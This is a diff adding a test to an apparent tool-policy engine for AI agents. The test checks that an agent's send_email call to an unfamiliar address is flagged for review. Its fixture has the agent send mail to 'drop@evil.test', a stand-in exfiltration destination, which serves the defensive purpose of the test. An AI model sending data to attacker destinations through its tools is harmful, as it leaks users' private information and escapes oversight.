@@ -152,3 +152,26 @@ async def test_a_contested_tool_keeps_what_its_mapping_restricts(world_redis):
         assert nobody.verdict == "block"
         assert inside.verdict == "ask"
         assert "tool_contested" in inside.codes
+
+
+async def test_an_entry_for_any_server_names_none(world_redis):
+    """Without a listener or an upstream it is about whoever answers."""
+    policy = """
+version: 1
+name: anywhere
+extends: builtin:office
+servers:
+  - name: mail
+    tools:
+      - match: [search_contacts]
+        role: retrieve
+        fields: [{path: "$[*].email", as: directory, kinds: [mail], name: "$[*].name"}]
+      - {match: [send_email], role: send, destinations: ["$.to"], body: ["$.body"]}
+"""
+    async with world_of(assemble, world_redis, policy) as world:
+        world.serve(OTHER, _contacts)
+        await world.agent(listener=OTHER).call("search_contacts", {"query": "Ann"})
+
+        sent = await world.agent().call("send_email", {"to": ["drop@evil.test"], "body": "x"})
+
+        assert sent.verdict == "ask"
